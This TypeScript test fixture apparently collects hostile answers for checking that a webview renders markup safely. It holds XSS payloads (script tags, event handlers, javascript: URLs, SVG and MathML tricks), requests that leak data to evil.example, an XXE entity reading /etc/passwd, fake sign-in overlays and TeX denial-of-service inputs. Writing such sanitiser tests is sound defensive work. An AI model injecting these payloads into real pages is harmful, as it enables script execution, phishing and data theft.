import type { HostileAnswers } from './hostileAnswers';

const run = 'alert(1)';

/** Elements that load, run, cover or navigate. */
const elements: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'module script': `<script type="module">import "https://evil.example/a.js"</script>`,
  'script in capitals': `<SCRIPT>${run}</SCRIPT>`,
  'script in a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script that never ends': `<script>${run}`,
  'script behind a slash': `<script/x>${run}</script>`,
  'script with an import map': '<script type="importmap">{"imports":{"a":"data:,"}}</script>',
  image: `<img src=x onerror=${run}>`,
  'image without an end': `<img src=x onerror=${run} `,
  'image with a slash': `<img/src=x/onerror=${run}>`,
  'image in backticks': '<img src=x onerror=`alert(1)`>',
  'image that reports': '<img src="https://evil.example/?q=secret">',
  'image with a source set': '<img srcset="https://evil.example/1 1x, https://evil.example/2 2x">',
  picture: '<picture><source srcset="https://evil.example/a"><img></picture>',
  frame: '<iframe src="https://evil.example"></iframe>',
  'frame with a document': `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame of a script': `<iframe src="javascript:${run}"></iframe>`,
  object: '<object data="https://evil.example/a.swf"></object>',
  embed: '<embed src="https://evil.example/a.swf">',
  applet: '<applet code="a" archive="https://evil.example/a.jar"></applet>',
  form: '<form action="https://evil.example"><input name=key><button>Sign in</button></form>',
  'button with its own action': `<form><button formaction="javascript:${run}">Go</button></form>`,
  'form that sends itself':
    '<form id=f action="https://evil.example"></form><script>f.submit()</script>',
  input: `<input onfocus=${run} autofocus>`,
  select: `<select onfocus=${run} autofocus><option>a</select>`,
  textarea: `<textarea onfocus=${run} autofocus></textarea>`,
  keygen: `<keygen onfocus=${run} autofocus>`,
  details: `<details open ontoggle=${run}>a</details>`,
  dialog: `<dialog open onclose=${run}>Your session is over.</dialog>`,
  popover: `<div popover id=p onbeforetoggle=${run}>a</div><button popovertarget=p>x</button>`,
  marquee: `<marquee onstart=${run}>a</marquee>`,
  video: `<video src="https://evil.example/a.mp4" onerror=${run} autoplay></video>`,
  audio: `<audio src="https://evil.example/a.mp3" onerror=${run} autoplay></audio>`,
  track: `<video><track src="https://evil.example/a.vtt"></video>`,
  body: `<body onload=${run}>`,
  'body that closes': `</body></html><script>${run}</script>`,
  base: '<base href="https://evil.example/">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'meta that weakens the policy':
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'link to a style': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'link that fetches ahead': '<link rel="prefetch" href="https://evil.example/a">',
  'link that looks up a name': '<link rel="dns-prefetch" href="//secret.evil.example">',
  'link that connects': '<link rel="preconnect" href="https://secret.evil.example">',
  'link that loads a module': '<link rel="modulepreload" href="https://evil.example/a.js">',
  manifest: '<link rel="manifest" href="https://evil.example/a.json">',
  icon: '<link rel="icon" href="https://evil.example/a.ico">',
  template: `<template><script>${run}</script></template>`,
  'template of a shadow': `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  slot: `<slot name=a onslotchange=${run}></slot>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  plaintext: `<plaintext>${run}`,
  xmp: `<xmp><script>${run}</script></xmp>`,
  'comment that closes early': `<!--><script>${run}</script>-->`,
  'comment with a dash': `<!-- --!><img src=x onerror=${run}> -->`,
  'conditional comment': `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  'processing instruction': `<?xml-stylesheet href="javascript:${run}"?>`,
  'character data': `<![CDATA[<script>${run}</script>]]>`,
  doctype: '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  portal: '<portal src="https://evil.example"></portal>',
  'fenced frame': '<fencedframe src="https://evil.example"></fencedframe>',
  'anchor that pings': '<a href="https://example.com" ping="https://evil.example">a</a>',
  'anchor that downloads': '<a href="data:text/plain,x" download="run.bat">a</a>',
  map: `<img usemap="#m"><map name="m"><area href="javascript:${run}" shape="default"></map>`,
  'table with a background': '<table background="https://evil.example/a.png"><tr><td>a</table>',
  frameset: `<frameset onload=${run}><frame src="https://evil.example"></frameset>`,
  'element named like a member': '<form id=acquireVsCodeApi><input name=postMessage></form>',
  'element that hides the page': '<div id="root" class="page"></div><div id="root"></div>',
  custom: `<x-a onclick=${run} tabindex=0>a</x-a>`,
};

const svg: Readonly<Record<string, string>> = {
  svg: `<svg onload=${run}></svg>`,
  'svg script': `<svg><script>${run}</script></svg>`,
  'svg script with entities': '<svg><script>&#97;lert(1)</script></svg>',
  'svg script from elsewhere': '<svg><script href="https://evil.example/a.js"/></svg>',
  'svg animation': `<svg><a><animate attributeName=href values="javascript:${run}"/><text>a</text></a></svg>`,
  'svg set': `<svg><set attributeName=onmouseover to=${run}></svg>`,
  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"/></foreignObject></svg>`,
  'svg use': '<svg><use href="https://evil.example/a.svg#a"/></svg>',
  'svg image': '<svg><image href="https://evil.example/a.png"/></svg>',
  'svg filter': '<svg><filter><feImage href="https://evil.example/a.png"/></filter></svg>',
  'svg style': '<svg><style>@import "https://evil.example/a.css";</style></svg>',
  'svg title': `<svg><title><img src=x onerror=${run}></title></svg>`,
  'svg link': `<svg><a xlink:href="javascript:${run}"><text y=20>press</text></a></svg>`,
  'svg in a paragraph': `a <svg/onload=${run}> b`,
};

const mathml: Readonly<Record<string, string>> = {
  math: `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  'math link': `<math href="javascript:${run}">press</math>`,
  'math with a style': `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  'math that changes its mind': `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
  'math annotation': `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  'math action': `<math><maction actiontype="statusline#https://evil.example">a</maction></math>`,
  'TeX link': `$\\href{javascript:${run}}{x}$`,
  'TeX address': `$$\\url{javascript:${run}}$$`,
  'TeX picture': '$$\\includegraphics{https://evil.example/a.png}$$',
  'TeX class': '$\\class{page}{x}$ $\\cssId{root}{x}$',
  'TeX style': '$\\style{background:url(https://evil.example)}{x}$',
  'TeX data': '$\\htmlData{x=1}{y}$ $\\htmlId{root}{y}$',
  'TeX that calls itself': '$$\\def\\a{\\a\\a}\\a$$',
  'TeX that doubles': `$$\\def\\a#1{#1#1}${'\\a{'.repeat(40)}x${'}'.repeat(40)}$$`,
  'TeX as large as the page': '$\\rule{100000em}{100000em}$ $\\hspace{1000000em}$',
  'TeX of braces': `$$${'{'.repeat(20_000)}x${'}'.repeat(20_000)}$$`,
  'TeX of fractions': `$$${'\\frac{1}{'.repeat(2_000)}1${'}'.repeat(2_000)}$$`,
  'TeX of many dollars': '$a$'.repeat(20_000),
  'TeX that raises': '$\\raisebox{-1000em}{Your session is over}$',
  'TeX with markup': `$\\text{<img src=x onerror=${run}>}$`,
};

const styles: Readonly<Record<string, string>> = {
  'style that hides': '<style>* { display: none !important }</style>',
  'style that covers': '<div style="position:fixed;inset:0;z-index:99999">Sign in again</div>',
  'style that loads': '<p style="background:url(https://evil.example/a.png)">a</p>',
  'style that imports': '<style>@import url(https://evil.example/a.css);</style>',
  'style that reads': `<style>input[value^="a"]{background:url(https://evil.example/?a)}</style>`,
  'style with a font': '<style>@font-face{font-family:a;src:url(https://evil.example/a)}</style>',
  'style with an expression': `<p style="width:expression(${run})">a</p>`,
  'style with a behaviour': '<p style="behavior:url(https://evil.example/a.htc)">a</p>',
  'style of the page': '<p class="jump send primary">Accept</p>',
  'style that animates': `<style>@keyframes a{}</style><p style="animation:a" onanimationend=${run}>`,
  'style that never ends': '<style>* { color: red',
};

const events = (
  'abort afterprint animationstart auxclick beforeinput beforeunload blur cancel change click close ' +
  'contextmenu copy cut dblclick drag drop error focus focusin formdata gotpointercapture hashchange input ' +
  'invalid keydown load message mousedown mouseenter mouseover paste pointerdown pointerover popstate ' +
  'scroll scrollend securitypolicyviolation select storage submit toggle touchstart transitionend unload wheel'
).split(' ');

/** Answers that hold markup, which is text to the page. */
export const hostileMarkup: HostileAnswers = {
  ...elements,
  ...svg,
  ...mathml,
  ...styles,
  ...Object.fromEntries(
    events.map((event) => [
      `handler of ${event}`,
      `A <b on${event}="${run}" tabindex=0 contenteditable>word</b> and\n\n<div on${event}=${run}>a block</div>`,
    ]),
  ),
  'all elements at once': [elements, svg, mathml, styles]
    .flatMap((all) => Object.values(all))
    .join('\n\n'),
};
